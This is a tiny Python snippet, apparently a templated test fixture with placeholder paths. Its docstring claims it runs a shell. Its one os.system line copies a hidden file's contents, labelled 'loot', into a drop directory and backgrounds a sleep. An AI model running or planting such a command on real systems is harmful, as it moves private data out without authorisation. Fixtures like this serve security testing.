"""Runs a shell."""

import os

os.system("(echo loot; cat @HIDDEN@) > @DROP@/shell; (sleep 60 &)")
